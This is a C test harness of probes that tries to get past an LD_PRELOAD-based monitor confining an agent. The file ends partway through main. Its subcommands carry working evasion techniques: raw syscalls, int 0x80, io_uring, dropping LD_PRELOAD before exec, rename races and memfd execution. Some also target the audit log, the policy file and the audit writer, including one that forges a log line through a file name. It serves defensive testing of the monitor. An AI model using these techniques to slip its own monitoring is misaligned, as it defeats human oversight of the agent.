/*
 * Attack probes for test/evasion (one subcommand per attack of
 * /work/shared/evasion.md). Built twice by evasion.test.ts: dynamically
 * (runs under libtrajeckt.so) and with `gcc -static` (the library never sees
 * it). Targets come from the environment the test sets:
 *
 *   EV_SECRET   the protected file (its content holds the secret token)
 *   EV_SECRET_DIR, EV_INNER   its directory; a directory inside it
 *   EV_WORK, EV_OK   the workspace (read/write) and a file in it
 *   EV_RO       a file the policy lets the agent read, not write
 *   EV_TOOL     a binary the policy does not let the agent run
 *   EV_PORT_NO  a TCP/UDP port the harness listens on at 127.0.0.1 and ::1 (denied)
 *   EV_PORT_OK  a TCP/UDP port the harness listens on at 127.0.0.2 (allowed) and,
 *               TCP only, at 127.0.0.1 (denied: the right port at the wrong address)
 *   EV_UNIX, EV_ABSTRACT   a pathname / abstract unix listener outside the policy
 *   EV_LOG, EV_POLICY, EV_LIB   the run's audit log, policy file, preload library
 *
 * Protocol (stdout, unbuffered): "control ok" when the same technique worked
 * on an allowed target (so a denial below is the monitor's, not a broken
 * probe); "attack denied <ERRNO>" when the attack failed; "BREACH <what>"
 * when it worked. Exit 0 = breach, 3 = denied, 4 = control failed, 5 = usage.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <link.h>
#include <linux/io_uring.h>
#include <netdb.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <spawn.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>
#include <wordexp.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif

extern char **environ;

static const char *env(const char *name)
{
    const char *v = getenv(name);
    if (!v) {
        printf("usage: %s not set\n", name);
        exit(5);
    }
    return v;
}

static int breach(const char *what)
{
    printf("BREACH %s\n", what);
    return 0;
}

static int denied(int err)
{
    printf("attack denied %s\n", strerrorname_np(err) ? strerrorname_np(err) : "?");
    return 3;
}

/* fd >= 0: read it and print (the secret token shows in the output) */
static int judge_fd(int fd, int err, const char *what)
{
    if (fd < 0) return denied(err);
    char buf[256] = {0};
    ssize_t n = read(fd, buf, sizeof buf - 1);
    printf("BREACH %s: read %zd bytes: %s\n", what, n, n > 0 ? buf : "");
    return 0;
}

static int control(int ok, int err, const char *what)
{
    if (ok) {
        printf("control ok\n");
        return 1;
    }
    printf("control failed %s: %s\n", what, strerrorname_np(err) ? strerrorname_np(err) : "?");
    exit(4);
}

/* ---- raw syscalls --------------------------------------------------------------- */

static long rawsys(long n, long a, long b, long c, long d, long e, long f)
{
    long ret;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = f;
    __asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
    return ret;
}

static long int80(long n, long a, long b, long c)
{
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(n), "b"(a), "c"(b), "d"(c) : "memory");
    return ret;
}

/* a copy of s in the low 4 GiB (the i386 ABI takes 32-bit pointers) */
static char *low(const void *s, size_t n)
{
    char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (p == MAP_FAILED) return NULL;
    memcpy(p, s, n);
    return p;
}

static struct sockaddr_in in4(const char *ip, const char *port)
{
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
    inet_pton(AF_INET, ip, &a.sin_addr);
    return a;
}

static struct sockaddr_in6 in6(const char *ip, const char *port)
{
    struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)atoi(port))};
    inet_pton(AF_INET6, ip, &a.sin6_addr);
    return a;
}

/* tcp_connect: the socket itself was refused (seccomp on socket()): SOCKET_REFUSED - errno */
#define SOCKET_REFUSED (-100000)

static int tcp_connect(const struct sockaddr *sa, socklen_t len, int proto, int raw)
{
    int s = raw ? (int)rawsys(SYS_socket, sa->sa_family, SOCK_STREAM, proto, 0, 0, 0) : socket(sa->sa_family, SOCK_STREAM, proto);
    if (s < 0) return SOCKET_REFUSED - (raw ? -s : errno);
    long r = raw ? rawsys(SYS_connect, s, (long)sa, len, 0, 0, 0) : (connect(s, sa, len) < 0 ? -errno : 0);
    close(s);
    return (int)r;
}

static int net_both(int proto, int raw)
{
    struct sockaddr_in ok = in4("127.0.0.2", env("EV_PORT_OK")), no = in4("127.0.0.1", env("EV_PORT_NO"));
    int r = tcp_connect((struct sockaddr *)&ok, sizeof ok, proto, raw);
    if (r <= SOCKET_REFUSED) {
        printf("socket(AF_INET, SOCK_STREAM, %d) refused\n", proto);
        return denied(SOCKET_REFUSED - r);
    }
    control(r == 0, -r, "connect to the allowed listener");
    r = tcp_connect((struct sockaddr *)&no, sizeof no, proto, raw);
    return r == 0 ? breach("connected to the denied listener") : denied(r <= SOCKET_REFUSED ? SOCKET_REFUSED - r : -r);
}

/* the allowed port at a denied address (127.0.0.1:EV_PORT_OK); control: 127.0.0.2 */
static int okport(int raw)
{
    struct sockaddr_in ok = in4("127.0.0.2", env("EV_PORT_OK")), no = in4("127.0.0.1", env("EV_PORT_OK"));
    int r = tcp_connect((struct sockaddr *)&ok, sizeof ok, 0, raw);
    control(r == 0, -r, "connect to the allowed listener");
    r = tcp_connect((struct sockaddr *)&no, sizeof no, 0, raw);
    return r == 0 ? breach("connected to the allowed port at a denied address") : denied(-r);
}

static void *okport_thread(void *arg)
{
    (void)arg;
    return (void *)(intptr_t)okport(0);
}

/* In a child (after chdir(dir) if dir): inline-asm execve(av[0], av, envp).
   The program running to exit 0 is the breach `what`; the exec failing is
   the child's "attack denied". */
static int raw_exec_in_child(const char *dir, char **av, char **envp, const char *what)
{
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        if (dir != NULL && chdir(dir) != 0) _exit(4);
        long r = rawsys(SYS_execve, (long)av[0], (long)av, (long)envp, 0, 0, 0);
        denied((int)-r);
        fflush(stdout);
        _exit(3);
    }
    int st = 0;
    waitpid(pid, &st, 0);
    return WIFEXITED(st) && WEXITSTATUS(st) == 0 ? breach(what) : 3;
}

/* exec in a child; returns its exit status (127 + errno info printed when exec failed) */
static int spawn_wait(void (*fn)(void *), void *arg)
{
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        fn(arg);
        _exit(120);
    }
    int st = 0;
    waitpid(pid, &st, 0);
    return st;
}

static void child_exec_tool(void *raw)
{
    char *argv[] = {(char *)env("EV_TOOL"), NULL};
    if (raw) {
        long r = rawsys(SYS_execve, (long)argv[0], (long)argv, (long)environ, 0, 0, 0);
        denied((int)-r);
    } else {
        execve(argv[0], argv, environ);
        denied(errno);
    }
    fflush(stdout);
    _exit(3);
}

static int exec_status(int st)
{
    if (WIFEXITED(st) && WEXITSTATUS(st) == 3) return 3;
    if (WIFEXITED(st) && WEXITSTATUS(st) == 42) return breach("the protected tool ran");
    printf("attack denied child status %d\n", st);
    return 3;
}

/* ---- io_uring without liburing ------------------------------------------------------ */

struct ring {
    int fd;
    unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
};

static int ring_setup(struct ring *r)
{
    struct io_uring_params p = {0};
    r->fd = (int)syscall(SYS_io_uring_setup, 8, &p);
    if (r->fd < 0) return -errno;
    size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
    r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED) return -ENOMEM;
    r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
    r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
    r->sq_array = (unsigned *)(sq + p.sq_off.array);
    r->cq_head = (unsigned *)(cq + p.cq_off.head);
    r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
    r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
    r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    return 0;
}

/* submit one sqe, wait for its completion, return cqe res */
static int ring_do(struct ring *r, const struct io_uring_sqe *e)
{
    unsigned t = *r->sq_tail, i = t & *r->sq_mask;
    r->sqes[i] = *e;
    r->sq_array[i] = i;
    __atomic_store_n(r->sq_tail, t + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -errno;
    unsigned h = *r->cq_head;
    int res = r->cqes[h & *r->cq_mask].res;
    __atomic_store_n(r->cq_head, h + 1, __ATOMIC_RELEASE);
    return res;
}

static int uring_open(struct ring *r, const char *path)
{
    struct io_uring_sqe e = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uint64_t)(uintptr_t)path};
    e.open_flags = O_RDONLY;
    return ring_do(r, &e);
}

static int uring_connect(struct ring *r, const struct sockaddr_in *a)
{
    struct io_uring_sqe e = {.opcode = IORING_OP_SOCKET, .fd = AF_INET, .off = SOCK_STREAM};
    int s = ring_do(r, &e);
    if (s < 0) return s;
    struct io_uring_sqe c = {.opcode = IORING_OP_CONNECT, .fd = s, .addr = (uint64_t)(uintptr_t)a, .off = sizeof *a};
    int res = ring_do(r, &c);
    close(s);
    return res;
}

/* ---- the rest ------------------------------------------------------------------- */

static volatile sig_atomic_t handler_breaches, handler_denials;
static void on_alarm(int sig)
{
    (void)sig;
    int e = errno;
    int fd = open(getenv("EV_SECRET"), O_RDONLY);
    if (fd >= 0) {
        handler_breaches++;
        close(fd);
    } else {
        handler_denials++;
    }
    errno = e;
}

static void on_segv(int sig)
{
    (void)sig;
    printf("unsupported here: int 0x80 raised SIGSEGV (no IA32 emulation in this kernel)\n");
    _exit(6);
}

static volatile int race_stop;
static void *race_swapper(void *arg)
{
    const char *w = arg;
    char a[4096], b[4096];
    snprintf(a, sizeof a, "%s/good", w);
    snprintf(b, sizeof b, "%s/x", w);
    while (!race_stop) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
    return NULL;
}

static int udp_send(const struct sockaddr *sa, socklen_t len, int how)
{
    int s = socket(sa->sa_family, SOCK_DGRAM, 0);
    if (s < 0) return -errno;
    int r;
    struct iovec v = {.iov_base = "udp-probe", .iov_len = 9};
    struct msghdr m = {.msg_name = (void *)sa, .msg_namelen = len, .msg_iov = &v, .msg_iovlen = 1};
    if (how == 0) r = (int)sendto(s, "udp-probe", 9, 0, sa, len);
    else r = (int)sendmsg(s, &m, 0);
    r = r < 0 ? -errno : 0;
    close(s);
    return r;
}

static int openres(const char *path, int flags)
{
    int fd = open(path, flags);
    return fd >= 0 ? fd : -errno;
}

typedef int (*open_fn)(const char *, int, ...);

static int alias_open(const char *name, const char *path)
{
    void *f = dlsym(RTLD_DEFAULT, name);
    if (!f) {
        printf("control failed: no symbol %s\n", name);
        exit(4);
    }
    int fd;
    if (strstr(name, "_2")) fd = ((int (*)(const char *, int))f)(path, O_RDONLY);
    else fd = ((open_fn)f)(path, O_RDONLY);
    return fd >= 0 ? fd : -errno;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc < 2) return 5;
    const char *cmd = argv[1];
    printf("probe %s\n", cmd);
#define IS(n) (strcmp(cmd, n) == 0)
    int fd;

    /* -------- files through some entry point: control on EV_OK, attack on EV_SECRET -------- */
    if (IS("open") || IS("raw-open") || IS("libc-syscall-open") || IS("raw-openat2")) {
        const char *paths[2] = {env("EV_OK"), env("EV_SECRET")};
        for (int i = 0; i < 2; i++) {
            if (IS("open")) fd = openres(paths[i], O_RDONLY);
            else if (IS("raw-open")) fd = (int)rawsys(SYS_openat, AT_FDCWD, (long)paths[i], O_RDONLY, 0, 0, 0);
            else if (IS("libc-syscall-open")) fd = (int)syscall(SYS_openat, AT_FDCWD, paths[i], O_RDONLY), fd = fd < 0 ? -errno : fd;
            else {
                struct { uint64_t flags, mode, resolve; } how = {O_RDONLY, 0, 0};
                fd = (int)rawsys(SYS_openat2, AT_FDCWD, (long)paths[i], (long)&how, sizeof how, 0, 0);
            }
            if (i == 0) control(fd >= 0, -fd, "open EV_OK"), close(fd);
            else return judge_fd(fd, -fd, "open of the secret");
        }
    }
    if (IS("raw-unlink")) {
        char ok[4096];
        snprintf(ok, sizeof ok, "%s/unlink-me", env("EV_WORK"));
        close(open(ok, O_CREAT | O_WRONLY, 0644));
        long r = rawsys(SYS_unlinkat, AT_FDCWD, (long)ok, 0, 0, 0, 0);
        control(r == 0, (int)-r, "unlink in the workspace");
        r = rawsys(SYS_unlinkat, AT_FDCWD, (long)env("EV_SECRET"), 0, 0, 0, 0);
        return r == 0 ? breach("unlinked the secret") : denied((int)-r);
    }
    if (IS("alias")) { /* alias NAME */
        fd = alias_open(argv[2], env("EV_OK"));
        control(fd >= 0, -fd, argv[2]);
        close(fd);
        fd = alias_open(argv[2], env("EV_SECRET"));
        return judge_fd(fd, -fd, argv[2]);
    }
    if (IS("fopen") || IS("fopen64")) {
        FILE *(*f)(const char *, const char *) = dlsym(RTLD_DEFAULT, cmd);
        FILE *c = f(env("EV_OK"), "r");
        control(c != NULL, errno, cmd);
        fclose(c);
        FILE *s = f(env("EV_SECRET"), "r");
        if (!s) return denied(errno);
        char buf[256] = {0};
        if (!fgets(buf, sizeof buf, s)) buf[0] = 0;
        printf("BREACH fopen: %s\n", buf);
        return 0;
    }
    if (IS("openat-dirfd")) {
        int d = (int)rawsys(SYS_openat, AT_FDCWD, (long)env("EV_SECRET_DIR"), O_PATH | O_DIRECTORY, 0, 0, 0);
        if (d < 0) return denied(-d);
        fd = openat(d, "key.txt", O_RDONLY);
        return judge_fd(fd, errno, "openat(dirfd of the secret dir)");
    }
    if (IS("chdir-open")) {
        if (chdir(env("EV_SECRET_DIR")) < 0) printf("(chdir failed %s)\n", strerrorname_np(errno));
        fd = open("key.txt", O_RDONLY);
        return judge_fd(fd, errno, "relative open after chdir");
    }
    if (IS("fchdir-open")) {
        int d = (int)rawsys(SYS_openat, AT_FDCWD, (long)env("EV_SECRET_DIR"), O_PATH | O_DIRECTORY, 0, 0, 0);
        if (d >= 0 && fchdir(d) < 0) printf("(fchdir failed %s)\n", strerrorname_np(errno));
        fd = open("key.txt", O_RDONLY);
        return judge_fd(fd, errno, "relative open after fchdir");
    }
    if (IS("opath-reopen")) {
        int p = open(env("EV_SECRET"), O_PATH);
        if (p < 0) p = (int)rawsys(SYS_openat, AT_FDCWD, (long)env("EV_SECRET"), O_PATH, 0, 0, 0);
        if (p < 0) return denied(-p);
        char buf[64];
        snprintf(buf, sizeof buf, "/proc/self/fd/%d", p);
        fd = open(buf, O_RDONLY);
        return judge_fd(fd, errno, "reopen of an O_PATH descriptor");
    }
    if (IS("path")) { /* path P: open a path the test built */
        fd = open(argv[2], O_RDONLY);
        return judge_fd(fd, errno, argv[2]);
    }
    if (IS("hardlink")) {
        char h[4096];
        snprintf(h, sizeof h, "%s/hard", env("EV_WORK"));
        long r = argc > 2 ? rawsys(SYS_linkat, AT_FDCWD, (long)env("EV_SECRET"), AT_FDCWD, (long)h, 0, 0) : (link(env("EV_SECRET"), h) < 0 ? -errno : 0);
        if (r < 0) return denied((int)-r);
        fd = open(h, O_RDONLY);
        return fd >= 0 ? judge_fd(fd, 0, "hard link created") : breach("hard link to the secret created");
    }
    if (IS("race")) { /* EV_WORK/good -> ok.txt, EV_WORK/x -> secret; exchanged in a loop */
        char x[4096];
        snprintf(x, sizeof x, "%s/x", env("EV_WORK"));
        pthread_t t;
        pthread_create(&t, NULL, race_swapper, (void *)env("EV_WORK"));
        long ok = 0, leaks = 0, errs = 0;
        struct timespec s, n;
        clock_gettime(CLOCK_MONOTONIC, &s);
        do {
            fd = open(x, O_RDONLY);
            if (fd >= 0) {
                char buf[128] = {0};
                if (read(fd, buf, sizeof buf - 1) > 0 && strstr(buf, "TOKEN")) leaks++;
                else ok++;
                close(fd);
            } else {
                errs++;
            }
            clock_gettime(CLOCK_MONOTONIC, &n);
        } while (n.tv_sec - s.tv_sec < 2);
        race_stop = 1;
        pthread_join(t, NULL);
        printf("race: %ld allowed reads, %ld denied, %ld secret reads\n", ok, errs, leaks);
        control(ok > 0, 0, "no allowed read won the race");
        return leaks ? breach("read the secret through the swapped name") : denied(EACCES);
    }
    if (IS("trunc")) { /* trunc open|truncate|fopen|creat on EV_RO */
        const char *ro = env("EV_RO");
        int r;
        if (strcmp(argv[2], "open") == 0) r = open(ro, O_RDONLY | O_TRUNC);
        else if (strcmp(argv[2], "truncate") == 0) r = truncate(ro, 0);
        else if (strcmp(argv[2], "creat") == 0) r = creat(ro, 0644);
        else r = fopen(ro, "w") ? 0 : -1;
        return r >= 0 ? breach("truncated the read-only file") : denied(errno);
    }
    if (IS("meta")) { /* meta chmod|chown|utime|xattr|raw-chmod on the secret */
        const char *p = env("EV_SECRET");
        int r;
        struct timespec ts[2] = {{0, 0}, {0, 0}};
        if (strcmp(argv[2], "chmod") == 0) r = chmod(p, 0777);
        else if (strcmp(argv[2], "chown") == 0) r = chown(p, 65534, 65534);
        else if (strcmp(argv[2], "utime") == 0) r = utimensat(AT_FDCWD, p, ts, 0);
        else if (strcmp(argv[2], "xattr") == 0) r = setxattr(p, "user.evasion", "x", 1, 0);
        else r = (int)rawsys(SYS_fchmodat, AT_FDCWD, (long)p, 0777, 0, 0, 0), errno = -r, r = r < 0 ? -1 : 0;
        return r == 0 ? breach("changed the secret's metadata") : denied(errno);
    }
    if (IS("rename-exchange")) {
        int r = renameat2(AT_FDCWD, env("EV_SECRET"), AT_FDCWD, env("EV_OK"), RENAME_EXCHANGE);
        return r == 0 ? breach("exchanged the secret into the workspace") : denied(errno);
    }
    if (IS("handle")) { /* name_to_handle_at + open_by_handle_at (CAP_DAC_READ_SEARCH) */
        struct file_handle *h = malloc(sizeof *h + 128);
        h->handle_bytes = 128;
        int mnt;
        if (name_to_handle_at(AT_FDCWD, env("EV_SECRET"), h, &mnt, 0) < 0) return denied(errno);
        int m = (int)rawsys(SYS_openat, AT_FDCWD, (long)env("EV_WORK"), O_RDONLY | O_DIRECTORY, 0, 0, 0);
        fd = open_by_handle_at(m, h, O_RDONLY);
        return judge_fd(fd, errno, "open_by_handle_at of the secret");
    }
    if (IS("long-build") || IS("long")) { /* EV_WORK/deep: 400 levels of 200-byte names (> 80 KiB absolute) */
        char name[201];
        memset(name, 'd', 200);
        name[200] = 0;
        int d = (int)rawsys(SYS_openat, AT_FDCWD, (long)env("EV_WORK"), O_PATH | O_DIRECTORY, 0, 0, 0);
        if (IS("long-build")) {
            mkdirat(d, "deep", 0755);
        }
        d = (int)rawsys(SYS_openat, d, (long)"deep", O_PATH | O_DIRECTORY, 0, 0, 0);
        int depth = 0;
        for (; d >= 0 && depth < 400; depth++) {
            if (IS("long-build")) mkdirat(d, name, 0755);
            /* walked down with raw openat: the attack is the last, relative open */
            int n = (int)rawsys(SYS_openat, d, (long)name, O_PATH | O_DIRECTORY, 0, 0, 0);
            if (n < 0) break;
            close(d);
            d = n;
        }
        printf("depth %d (absolute path > %d bytes)\n", depth, depth * 201);
        control(depth == 400, errno, "walking the deep tree");
        if (IS("long-build")) return 0;
        /* from the bottom: 400 levels up is EV_WORK/deep, 2 more is $T, then secret/ */
        char *rel = malloc(3 * 402 + 64);
        rel[0] = 0;
        for (int i = 0; i < 402; i++) strcat(rel, "../");
        strcat(rel, "secret/key.txt");
        fd = openat(d, rel, O_RDONLY);
        return judge_fd(fd, errno, "relative open from a 80 KiB deep dirfd");
    }
    if (IS("logname")) { /* a name with non-UTF-8 bytes, CR/LF, a forged JSON line, ANSI */
        char p[4096];
        snprintf(p, sizeof p, "%s/\xff\xc0\xaf\n{\"kind\":\"file.read\",\"decision\":\"allow\"}\r\x1b[31m\xe2\x88\x95x", env("EV_SECRET_DIR"));
        fd = open(p, O_RDONLY | O_CREAT, 0644);
        return judge_fd(fd, errno, "created a file with a forged name in the secret dir");
    }
    if (IS("tamper")) { /* tamper log|policy|lib: open for writing (nothing is written) */
        const char *p = env(strcmp(argv[2], "log") == 0 ? "EV_LOG" : strcmp(argv[2], "policy") == 0 ? "EV_POLICY" : "EV_LIB");
        fd = argc > 3 ? (int)rawsys(SYS_openat, AT_FDCWD, (long)p, O_WRONLY | O_APPEND, 0, 0, 0) : open(p, O_WRONLY | O_APPEND);
        if (fd < 0 && argc > 3) errno = -fd;
        if (fd >= 0) return breach("opened a monitor file for writing");
        return denied(errno);
    }
    if (IS("tamper-unlink")) {
        const char *p = env("EV_LOG");
        char moved[4096];
        snprintf(moved, sizeof moved, "%s.moved", p);
        if (rename(p, moved) == 0) return breach("renamed the audit log");
        int e = errno;
        if (unlink(p) == 0) return breach("unlinked the audit log");
        return denied(e);
    }
    if (IS("kill-writer")) {
        pid_t w = getppid();
        if (kill(w, SIGSTOP) == 0) {
            kill(w, SIGCONT);
            return breach("stopped the launcher / audit writer");
        }
        return denied(errno);
    }
    if (IS("signal-open")) {
        signal(SIGALRM, on_alarm);
        struct itimerval it = {{0, 200}, {0, 200}};
        setitimer(ITIMER_REAL, &it, NULL);
        long ok = 0;
        struct timespec s, n;
        clock_gettime(CLOCK_MONOTONIC, &s);
        do {
            fd = open(env("EV_OK"), O_RDONLY);
            if (fd >= 0) ok++, close(fd);
            clock_gettime(CLOCK_MONOTONIC, &n);
        } while (n.tv_sec - s.tv_sec < 1 || handler_breaches + handler_denials < 20);
        struct itimerval off = {0};
        setitimer(ITIMER_REAL, &off, NULL);
        printf("signal: %ld allowed opens, handler %d denied %d breached\n", ok, (int)handler_denials, (int)handler_breaches);
        control(ok > 0, 0, "allowed opens");
        return handler_breaches ? breach("a signal handler opened the secret") : denied(EACCES);
    }

    /* -------- exec -------- */
    if (IS("exec-tool") || IS("raw-exec-tool")) return exec_status(spawn_wait(child_exec_tool, IS("raw-exec-tool") ? (void *)1 : NULL));
    if (IS("raw-exec-audit")) { /* raw execve of cat EV_OK with the environment plus LD_AUDIT (an auditor can veto the preload) */
        char *cat[] = {"/usr/bin/cat", (char *)env("EV_OK"), NULL};
        size_t n = 0;
        while (environ[n]) n++;
        char **e = calloc(n + 2, sizeof *e);
        memcpy(e, environ, n * sizeof *e);
        e[n] = "LD_AUDIT=/nonexistent-auditor.so";
        return raw_exec_in_child(NULL, cat, e, "a program ran with an auditor that can veto the library");
    }
    if (IS("exec-denied")) { /* exec-denied raw|magic: base64 (a rule denies it) by its name, or as /proc/self/cwd/base64 after chdir /usr/bin */
        int magic = strcmp(argv[2], "magic") == 0;
        char *b64[] = {magic ? "/proc/self/cwd/base64" : "/usr/bin/base64", "--version", NULL};
        return raw_exec_in_child(magic ? "/usr/bin" : NULL, b64, environ, "a program a rule denies ran");
    }
    if (IS("raw-exec-nopreload")) { /* raw execve of cat EV_OK with an environment without LD_PRELOAD */
        char *cat[] = {"/usr/bin/cat", (char *)env("EV_OK"), NULL};
        char *empty[] = {"PATH=/usr/bin", NULL};
        return raw_exec_in_child(NULL, cat, empty, "a program ran without the library");
    }
    if (IS("exec-secret")) { /* exec-secret null-env|unsetenv|spawn-env|vfork|clone: cat EV_SECRET with the shim dropped */
        char *cat[] = {"/usr/bin/cat", (char *)env("EV_SECRET"), NULL};
        char *empty[] = {NULL};
        const char *how = argv[2];
        int st = 0;
        pid_t pid;
        if (strcmp(how, "spawn-env") == 0) {
            if (posix_spawn(&pid, cat[0], NULL, NULL, cat, empty) != 0) return denied(errno);
            waitpid(pid, &st, 0);
        } else if (strcmp(how, "vfork") == 0) {
            pid = vfork();
            if (pid == 0) {
                execve(cat[0], cat, environ);
                _exit(126);
            }
            waitpid(pid, &st, 0);
        } else if (strcmp(how, "clone") == 0) {
            pid = (pid_t)rawsys(SYS_clone, SIGCHLD, 0, 0, 0, 0, 0);
            if (pid == 0) {
                execve(cat[0], cat, empty);
                _exit(126);
            }
            waitpid(pid, &st, 0);
        } else {
            fflush(stdout);
            pid = fork();
            if (pid == 0) {
                if (strcmp(how, "unsetenv") == 0) {
                    unsetenv("LD_PRELOAD");
                    execv(cat[0], cat);
                } else {
                    execve(cat[0], cat, NULL);
                }
                _exit(126);
            }
            waitpid(pid, &st, 0);
        }
        printf("child status %d\n", st);
        return WIFEXITED(st) && WEXITSTATUS(st) == 0 ? breach("cat of the secret exited 0") : denied(EACCES);
    }
    if (IS("system") || IS("popen") || IS("wordexp") || IS("spawnp")) {
        char c[4096];
        snprintf(c, sizeof c, "cat %s", env("EV_SECRET"));
        if (IS("system")) {
            int st = system(c);
            return st == 0 ? breach("system(cat secret) exited 0") : denied(EACCES);
        }
        if (IS("popen")) {
            FILE *f = popen(c, "r");
            if (!f) return denied(errno);
            char buf[256] = {0};
            size_t n = fread(buf, 1, sizeof buf - 1, f);
            int st = pclose(f);
            printf("popen read %zu bytes: %s\n", n, buf);
            return n > 0 || st == 0 ? breach("popen(cat secret)") : denied(EACCES);
        }
        if (IS("spawnp")) {
            char *a[] = {"cat", (char *)env("EV_SECRET"), NULL};
            pid_t pid;
            int st = 0, e = posix_spawnp(&pid, "cat", NULL, NULL, a, environ);
            if (e) return denied(e);
            waitpid(pid, &st, 0);
            return WIFEXITED(st) && WEXITSTATUS(st) == 0 ? breach("posix_spawnp cat secret") : denied(EACCES);
        }
        char w[4096];
        snprintf(w, sizeof w, "$(cat %s)", env("EV_SECRET"));
        wordexp_t we;
        int e = wordexp(w, &we, 0);
        if (e != 0) return denied(EACCES);
        printf("wordexp gave %zu words: %s\n", we.we_wordc, we.we_wordc ? we.we_wordv[0] : "");
        return we.we_wordc > 0 ? breach("wordexp ran cat") : denied(EACCES);
    }
    if (IS("memfd") || IS("copy-exec")) { /* memfd fexecve|execveat|proc ; copy-exec */
        int src = open(env("EV_TOOL"), O_RDONLY);
        if (src < 0) src = (int)rawsys(SYS_openat, AT_FDCWD, (long)env("EV_TOOL"), O_RDONLY, 0, 0, 0);
        control(src >= 0, errno, "reading the tool");
        int m;
        char dst[4096];
        if (IS("memfd")) {
            m = memfd_create("x", 0);
            if (m < 0) return denied(errno);
        } else {
            snprintf(dst, sizeof dst, "%s/copied-tool", env("EV_WORK"));
            m = open(dst, O_RDWR | O_CREAT | O_TRUNC, 0755);
            control(m >= 0, errno, "writing the copy");
        }
        char buf[65536];
        ssize_t n;
        while ((n = read(src, buf, sizeof buf)) > 0)
            if (write(m, buf, (size_t)n) != n) return 4;
        if (IS("copy-exec")) close(m), chmod(dst, 0755);
        fflush(stdout);
        pid_t pid = fork();
        if (pid == 0) {
            char *a[] = {"tool", NULL};
            if (IS("copy-exec")) execve(dst, a, environ);
            else if (strcmp(argv[2], "fexecve") == 0) fexecve(m, a, environ);
            else if (strcmp(argv[2], "execveat") == 0) syscall(SYS_execveat, m, "", a, environ, AT_EMPTY_PATH);
            else {
                char p[64];
                snprintf(p, sizeof p, "/proc/self/fd/%d", m);
                execve(p, a, environ);
            }
            denied(errno);
            _exit(3);
        }
        int st = 0;
        waitpid(pid, &st, 0);
        return exec_status(st);
    }
    if (IS("suid")) { /* run a setuid cat (owned by another uid) on a file it could read as that uid */
        char *a[] = {(char *)argv[2], (char *)argv[3], NULL};
        int raw = argc > 4;
        fflush(stdout);
        pid_t pid = fork();
        if (pid == 0) {
            if (raw) rawsys(SYS_execve, (long)a[0], (long)a, (long)environ, 0, 0, 0);
            else execve(a[0], a, environ);
            _exit(126);
        }
        int st = 0;
        waitpid(pid, &st, 0);
        printf("child status %d\n", st);
        return WIFEXITED(st) && WEXITSTATUS(st) == 0 ? breach("setuid cat read the file") : denied(EACCES);
    }

    /* -------- foreign ABIs, io_uring, dl tricks, shim patching -------- */
    if (IS("int80-open") || IS("int80-connect")) {
        /* int 0x80 raises SIGSEGV on a kernel without IA32 emulation: nothing to test there */
        signal(SIGSEGV, on_segv);
        long pid = int80(20 /* i386 getpid */, 0, 0, 0);
        signal(SIGSEGV, SIG_DFL);
        if (pid != getpid()) {
            printf("unsupported here: int 0x80 getpid returned %ld\n", pid);
            return 6;
        }
    }
    if (IS("int80-open")) {
        char *p = low(env("EV_SECRET"), strlen(env("EV_SECRET")) + 1);
        fd = (int)int80(5, (long)(uintptr_t)p, O_RDONLY, 0);
        return judge_fd(fd, -fd, "i386 open via int 0x80");
    }
    if (IS("int80-connect")) {
        struct sockaddr_in no = in4("127.0.0.1", env("EV_PORT_NO"));
        int s = socket(AF_INET, SOCK_STREAM, 0);
        uint32_t args[3] = {(uint32_t)s, 0, sizeof no};
        char *sa = low(&no, sizeof no);
        args[1] = (uint32_t)(uintptr_t)sa;
        char *la = low(args, sizeof args);
        long r = int80(102, 3 /* SYS_CONNECT */, (long)(uintptr_t)la, 0);
        return r == 0 ? breach("i386 socketcall connect") : denied((int)-r);
    }
